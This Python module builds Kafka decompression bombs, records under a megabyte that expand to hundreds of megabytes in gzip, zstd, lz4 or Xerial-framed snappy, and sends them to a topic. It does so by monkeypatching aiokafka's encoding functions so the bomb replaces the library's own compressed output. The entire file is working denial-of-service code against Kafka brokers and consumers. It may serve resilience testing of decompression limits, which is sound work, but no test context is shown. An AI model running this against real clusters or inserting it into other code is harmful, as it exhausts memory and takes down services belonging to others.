"""Batches below a megabyte that decompress to hundreds: made, and sent to a topic.

Nothing large is ever in memory here: a record of zeros is compressed piece by piece
and takes the place of what the client library would have compressed itself.
"""

from __future__ import annotations

import struct
import sys
import zlib
from collections.abc import Iterator
from contextlib import contextmanager

import cramjam
from aiokafka import AIOKafkaProducer
from aiokafka.record.default_records import DefaultRecordBatchBuilder

PIECE = b"\0" * 1_000_000
XERIAL = b"\x82SNAPPY\x00" + struct.pack(">ii", 1, 1)
XERIAL_BLOCK = b"\0" * 32 * 1024

MEGABYTES = {"gzip": 400, "zstd": 400, "lz4": 200, "snappy": 18}
"""How far each codec goes with less than a megabyte."""


def varint(value: int) -> bytes:
    """Kafka's zig-zag number."""
    zigzag, out = (value << 1) ^ (value >> 63), bytearray()
    while zigzag > 0x7F:
        out.append(zigzag & 0x7F | 0x80)
        zigzag >>= 7
    return bytes([*out, zigzag])


def pieces(megabytes: int) -> Iterator[bytes]:
    """One record with a value of that many megabytes of zeros."""
    size = megabytes * len(PIECE)
    head = b"\0" + varint(0) + varint(0) + varint(-1) + varint(size)
    yield varint(len(head) + size + 1) + head
    for _ in range(megabytes):
        yield PIECE
    yield varint(0)


def bomb(codec: str, megabytes: int) -> bytes:
    """The compressed part of a batch with that record."""
    plain = pieces(megabytes)
    if codec == "gzip":
        gzip = zlib.compressobj(9, zlib.DEFLATED, 31)
        return b"".join([*map(gzip.compress, plain), gzip.flush()])
    if codec == "snappy":
        body = b"".join(plain)
        step = len(XERIAL_BLOCK)
        blocks = [body[at : at + step] for at in range(0, len(body), step)]
        packed = [bytes(cramjam.snappy.compress_raw(block)) for block in blocks]
        return XERIAL + b"".join(struct.pack(">i", len(p)) + p for p in packed)
    if codec == "zstd":
        stream = cramjam.zstd.Compressor()
    else:
        stream = cramjam.lz4.Compressor(
            level=9, content_checksum=False, block_linked=False
        )
    for piece in plain:
        stream.compress(piece)
    return bytes(stream.finish())


@contextmanager
def encoding_to(codec: str, payload: bytes) -> Iterator[None]:
    """Let the client library put these bytes where it puts compressed ones."""
    module = sys.modules[DefaultRecordBatchBuilder.__module__]
    name = f"{codec}_encode"
    before = getattr(module, name)
    setattr(module, name, lambda *_: payload)
    try:
        yield
    finally:
        setattr(module, name, before)


async def send_bomb(
    bootstrap: str, topic: str, partition: int, codec: str, megabytes: int
) -> tuple[int, int]:
    """Send a bomb; return its offset and the size it has on the wire."""
    payload = bomb(codec, megabytes)
    with encoding_to(codec, payload):
        async with AIOKafkaProducer(
            bootstrap_servers=bootstrap, acks="all", compression_type=codec
        ) as producer:
            # Longer than the bomb: a library that gains nothing sends it plain.
            filler = b"\0" * (len(payload) + 1000)
            place = await producer.send_and_wait(topic, filler, partition=partition)
    return place.offset, len(payload)
